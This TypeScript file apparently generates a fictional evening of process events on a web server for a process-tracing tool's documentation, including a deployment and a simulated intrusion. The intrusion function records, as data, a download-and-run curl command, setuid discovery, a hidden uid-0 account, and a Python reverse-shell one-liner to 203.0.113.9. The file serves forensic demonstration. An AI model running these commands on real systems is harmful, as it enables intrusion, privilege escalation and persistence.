// An evening on a web server, made up: what a person sees in the pictures of the documentation, and the question
// that the tour answers ("which process started this curl?"). Half an hour of a host with a web server, a
// database, a container, a deployment, a monitoring agent that asks every minute, and somebody who gets in.

import { join } from 'node:path';
import type { EventNs, ExecEvent, FileInfo, TaskEvent } from '@dendro/protocol';
import { Random } from './workload.ts';

/** The evening as a recording. */
export const EVENING_FILE = join(import.meta.dirname, '../../../docs/evening.dendro');
/** 2026-11-20, 20:00 UTC. */
const EPOCH_NS = 1_795_204_800n * 1_000_000_000n;
const SECOND = 1e9;
const MINUTE = 60 * SECOND;
const END = 26 * MINUTE;
const CONTAINER = '3f1d2c9b8a7e6d5c4b3a29181706f5e4d3c2b1a09f8e7d6c5b4a392817060504';
export const EVENING_USERS = {
  0: 'root',
  33: 'www-data',
  112: 'postgres',
  999: 'redis',
  1000: 'deploy',
  1001: 'monitor',
};
const [ROOT, WWW, POSTGRES, REDIS, DEPLOY, MONITOR] = Object.keys(EVENING_USERS).map(Number) as [
  number,
  number,
  number,
  number,
  number,
  number,
];
/** It gets in, and asks for this. */
const DOWNLOAD = ['curl', '-fsS', 'http://203.0.113.9/k', '-o', '/tmp/.k'];
const GOT_IN_AT = 17 * MINUTE + 20 * SECOND;

interface Program {
  readonly path: string;
  readonly argv?: readonly string[];
  readonly cwd?: string;
  readonly uid?: number;
  readonly euid?: number;
  readonly links?: number;
  readonly mode?: number;
}

/** Events of a host in the order in which they are written down; sorted by time at the end. */
class Evening {
  readonly events: TaskEvent[] = [{ type: 'clock', epochNs: EPOCH_NS }];
  readonly #random = new Random(2026);
  #lastPid = 4100;

  /** One that ran long before. */
  there(
    pid: number,
    ppid: number,
    path: string,
    argv: readonly string[],
    of: Partial<Program & { container: string }>,
  ) {
    this.events.push({
      type: 'observe',
      at: 0 as EventNs,
      tid: pid,
      pid,
      ppid,
      start: (-86_400 * SECOND + pid * 1e7) as EventNs,
      startIsTick: true,
      comm: nameOf(path),
      executable: fileOf({ path, ...of }),
      argv,
      cwd: of.cwd ?? '/',
      uid: of.uid ?? ROOT,
      gid: of.uid ?? ROOT,
      euid: of.uid ?? ROOT,
      egid: of.uid ?? ROOT,
      container: of.container,
    });
    return pid;
  }

  fork(at: number, creator: number): number {
    const pid = ++this.#lastPid;
    this.events.push({ type: 'fork', at: at as EventNs, tid: pid, pid, creatorTid: creator, creatorPid: creator });
    return pid;
  }

  exec(at: number, pid: number, program: Program): void {
    const { path, argv = [nameOf(path)], cwd, uid, euid = uid } = program;
    const event: ExecEvent = {
      type: 'exec',
      at: at as EventNs,
      pid,
      comm: nameOf(path).slice(0, 15),
      filename: path,
      executable: fileOf(program),
      argv,
      cwd,
      uid,
      euid,
      gid: uid,
      egid: euid,
    };
    this.events.push(event);
  }

  exit(at: number, pid: number, code = 0, signal = 0): void {
    this.events.push({ type: 'exit', at: at as EventNs, tid: pid, pid, isGroupDead: true, code, signal });
  }

  /** Forked, run, and ended unless `lasts` is left out. */
  run(at: number, creator: number, program: Program, lasts?: number, code = 0): number {
    const pid = this.fork(at, creator);
    this.exec(at + 0.4e6, pid, program);
    if (lasts !== undefined) this.exit(at + lasts, pid, code);
    return pid;
  }

  reparent(at: number, pid: number, parentPid: number): void {
    this.events.push({ type: 'reparent', at: at as EventNs, pid, parentPid });
  }

  becomes(at: number, pid: number, uid: number): void {
    this.events.push({ type: 'credentials', at: at as EventNs, pid, uid, gid: uid, euid: uid, egid: uid });
  }

  between(from: number, to: number): number {
    return from + this.#random.below(to - from);
  }
}

/** The events of the evening, in order of time. Event time 0 is 20:00 UTC. */
export function eveningEvents(): TaskEvent[] {
  const host = new Evening();
  const init = host.there(1, 0, '/usr/lib/systemd/systemd', ['/sbin/init'], {});
  host.there(312, init, '/usr/lib/systemd/systemd-journald', ['/usr/lib/systemd/systemd-journald'], {});
  host.there(355, init, '/usr/lib/systemd/systemd-udevd', ['/usr/lib/systemd/systemd-udevd'], {});
  host.there(610, init, '/usr/bin/dbus-daemon', ['/usr/bin/dbus-daemon', '--system', '--nofork'], {});
  const cron = host.there(655, init, '/usr/sbin/cron', ['/usr/sbin/cron', '-f'], {});
  const sshd = host.there(771, init, '/usr/sbin/sshd', ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], {});
  host.there(802, init, '/sbin/agetty', ['/sbin/agetty', '-o', '-p -- \\u', '--noclear', 'tty1', 'linux'], {});
  const nginx = host.there(840, init, '/usr/sbin/nginx', ['nginx: master process /usr/sbin/nginx'], {});
  for (const pid of [841, 842, 843, 844])
    host.there(pid, nginx, '/usr/sbin/nginx', ['nginx: worker process'], { uid: WWW });
  const fpm = host.there(
    860,
    init,
    '/usr/sbin/php-fpm8.2',
    ['php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)'],
    {},
  );
  const pools = [861, 862, 863].map((pid) =>
    host.there(pid, fpm, '/usr/sbin/php-fpm8.2', ['php-fpm: pool www'], { uid: WWW, cwd: '/var/www/shop' }),
  );
  const database = host.there(
    902,
    init,
    '/usr/lib/postgresql/15/bin/postgres',
    ['/usr/lib/postgresql/15/bin/postgres', '-D', '/var/lib/postgresql/15/main'],
    { uid: POSTGRES },
  );
  for (const [i, role] of ['checkpointer', 'background writer', 'walwriter', 'autovacuum launcher'].entries()) {
    host.there(910 + i, database, '/usr/lib/postgresql/15/bin/postgres', [`postgres: 15/main: ${role}`], {
      uid: POSTGRES,
    });
  }
  const containerd = host.there(950, init, '/usr/bin/containerd', ['/usr/bin/containerd'], {});
  const shim = host.there(
    1204,
    containerd,
    '/usr/bin/containerd-shim-runc-v2',
    ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby', '-id', CONTAINER],
    {},
  );
  host.there(1227, shim, '/usr/local/bin/redis-server', ['redis-server', '*:6379'], {
    uid: REDIS,
    container: CONTAINER,
  });
  const agent = host.there(1310, init, '/usr/bin/node_agent', ['/usr/bin/node_agent', '--every=60s'], { uid: MONITOR });

  everyMinute(host, cron, agent);
  sessions(host, database);
  deployment(host, sshd, init);
  intrusion(host, pools[1] as number, init);
  host.events.push({ type: 'scan', at: END as EventNs, from: Number.NEGATIVE_INFINITY as EventNs });
  return host.events.sort((a, b) => timeOf(a) - timeOf(b));
}

function everyMinute(host: Evening, cron: number, agent: number): void {
  for (let at = 5 * SECOND; at < END; at += MINUTE) {
    const job = host.run(at, cron, {
      path: '/bin/sh',
      argv: ['/bin/sh', '-c', 'command -v debian-sa1 > /dev/null && debian-sa1 1 1'],
    });
    host.run(
      at + 0.02 * SECOND,
      job,
      { path: '/usr/lib/sysstat/sa1', argv: ['/bin/sh', '/usr/lib/sysstat/debian-sa1', '1', '1'] },
      0.2 * SECOND,
    );
    host.exit(at + 0.3 * SECOND, job);
    const check = host.run(at + 20 * SECOND, agent, {
      path: '/bin/sh',
      argv: ['sh', '-c', 'df -P; ss -tan | wc -l; systemctl is-system-running'],
    });
    host.run(at + 20.01 * SECOND, check, { path: '/bin/df', argv: ['df', '-P'] }, 0.01 * SECOND);
    host.run(at + 20.03 * SECOND, check, { path: '/usr/bin/ss', argv: ['ss', '-tan'] }, 0.02 * SECOND);
    host.run(at + 20.03 * SECOND, check, { path: '/usr/bin/wc', argv: ['wc', '-l'] }, 0.03 * SECOND);
    host.run(
      at + 20.08 * SECOND,
      check,
      { path: '/usr/bin/systemctl', argv: ['systemctl', 'is-system-running'] },
      0.1 * SECOND,
    );
    host.exit(at + 20.2 * SECOND, check);
  }
}

/** A process of the database for each connection. */
function sessions(host: Evening, database: number): void {
  for (let at = 2 * SECOND; at < END; at += host.between(0.6 * SECOND, 9 * SECOND)) {
    const pid = host.fork(at, database);
    const ends = at + host.between(0.5 * SECOND, 40 * SECOND);
    if (ends < END) host.exit(ends, pid);
  }
}

/** Somebody logs in and brings out a new version: many short programs, one of which fails. */
function deployment(host: Evening, sshd: number, init: number): void {
  const at = 8 * MINUTE;
  const session = host.run(at, sshd, { path: '/usr/sbin/sshd', argv: ['sshd: deploy [priv]'], uid: ROOT });
  const login = host.fork(at + 0.8 * SECOND, session);
  host.becomes(at + 0.81 * SECOND, login, DEPLOY);
  const shell = host.run(at + SECOND, login, { path: '/bin/bash', argv: ['-bash'], cwd: '/home/deploy', uid: DEPLOY });
  const of = { uid: DEPLOY, cwd: '/srv/shop' };
  host.run(at + 9 * SECOND, shell, { path: '/usr/bin/git', argv: ['git', 'pull', '--ff-only'], ...of }, 3 * SECOND);
  const npm = host.run(at + 15 * SECOND, shell, { path: '/usr/bin/node', argv: ['npm', 'ci'], ...of });
  for (let i = 0; i < 24; i++) {
    const begin = at + 17 * SECOND + i * 1.4 * SECOND;
    const script = host.run(begin, npm, { path: '/bin/sh', argv: ['sh', '-c', 'node install.js'], ...of });
    host.run(
      begin + 0.05 * SECOND,
      script,
      { path: '/usr/bin/node', argv: ['node', 'install.js'], ...of },
      0.9 * SECOND,
      i === 17 ? 1 : 0,
    );
    host.exit(begin + SECOND, script, i === 17 ? 1 : 0);
  }
  host.exit(at + 55 * SECOND, npm);
  const sudo = host.run(at + 62 * SECOND, shell, {
    path: '/usr/bin/sudo',
    argv: ['sudo', 'systemctl', 'restart', 'shop'],
    uid: DEPLOY,
    euid: ROOT,
    mode: 0o104755,
  });
  host.run(
    at + 63 * SECOND,
    sudo,
    { path: '/usr/bin/systemctl', argv: ['systemctl', 'restart', 'shop'], uid: ROOT },
    2 * SECOND,
  );
  host.exit(at + 65.2 * SECOND, sudo);
  const app = host.run(at + 64 * SECOND, init, {
    path: '/usr/bin/node',
    argv: ['node', '/srv/shop/server.js'],
    uid: WWW,
    cwd: '/srv/shop',
  });
  for (let i = 0; i < 6; i++)
    host.run(at + (64.5 + i / 10) * SECOND, app, {
      path: '/usr/bin/node',
      argv: ['node', '/srv/shop/worker.js', `--port=${9001 + i}`],
      uid: WWW,
      cwd: '/srv/shop',
    });
  host.exit(at + 180 * SECOND, shell);
  host.exit(at + 180.1 * SECOND, login);
  host.exit(at + 180.2 * SECOND, session);
}

/** A page of the shop can be made to run a command; what it fetches gives itself root, and stays. */
function intrusion(host: Evening, pool: number, init: number): void {
  const at = GOT_IN_AT;
  const of = { uid: WWW, cwd: '/var/www/shop' };
  const door = host.run(at, pool, {
    path: '/bin/sh',
    argv: ['sh', '-c', `id; uname -a; ${DOWNLOAD.join(' ')}; chmod +x /tmp/.k; /tmp/.k &`],
    ...of,
  });
  host.run(at + 0.01 * SECOND, door, { path: '/usr/bin/id', argv: ['id'], ...of }, 0.01 * SECOND);
  host.run(at + 0.04 * SECOND, door, { path: '/usr/bin/uname', argv: ['uname', '-a'], ...of }, 0.01 * SECOND);
  host.run(at + 0.07 * SECOND, door, { path: '/usr/bin/curl', argv: DOWNLOAD, ...of }, 1.9 * SECOND);
  host.run(at + 2.1 * SECOND, door, { path: '/usr/bin/chmod', argv: ['chmod', '+x', '/tmp/.k'], ...of }, 0.01 * SECOND);
  const kit = host.run(at + 2.2 * SECOND, door, { path: '/tmp/.k', argv: ['/tmp/.k'], links: 0, ...of });
  host.exit(at + 2.3 * SECOND, door);
  host.reparent(at + 2.3 * SECOND, kit, init);
  host.run(at + 4 * SECOND, kit, { path: '/usr/bin/cat', argv: ['cat', '/etc/passwd'], ...of }, 0.01 * SECOND);
  host.run(
    at + 9 * SECOND,
    kit,
    { path: '/usr/bin/find', argv: ['find', '/', '-perm', '-4000', '-type', 'f'], ...of },
    6 * SECOND,
    1,
  );
  host.becomes(at + 21 * SECOND, kit, ROOT);
  const root = { uid: ROOT, cwd: '/root' };
  const shell = host.run(at + 22 * SECOND, kit, { path: '/bin/bash', argv: ['bash', '-i'], ...root });
  host.run(
    at + 31 * SECOND,
    shell,
    { path: '/usr/sbin/useradd', argv: ['useradd', '-o', '-u', '0', 'backup2'], ...root },
    0.2 * SECOND,
  );
  host.run(at + 44 * SECOND, shell, { path: '/usr/bin/crontab', argv: ['crontab', '-'], ...root }, 0.05 * SECOND);
  const tunnel = host.run(at + 58 * SECOND, shell, {
    path: '/usr/bin/python3',
    argv: [
      'python3',
      '-c',
      'import socket,os,pty;s=socket.create_connection(("203.0.113.9",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")',
    ],
    ...root,
  });
  host.run(at + 59 * SECOND, tunnel, { path: '/bin/bash', argv: ['/bin/bash'], ...root });
  host.exit(at + 240 * SECOND, shell, -1, 9);
  host.reparent(at + 240 * SECOND, tunnel, init);
}

function timeOf(event: TaskEvent): number {
  if (event.type === 'clock') return -1;
  return event.type === 'gap' ? event.to : event.at;
}

function nameOf(path: string): string {
  return path.slice(path.lastIndexOf('/') + 1);
}

function fileOf({ path, mode = 0o100755, links = 1 }: Program): FileInfo {
  return { path, mode, links };
}
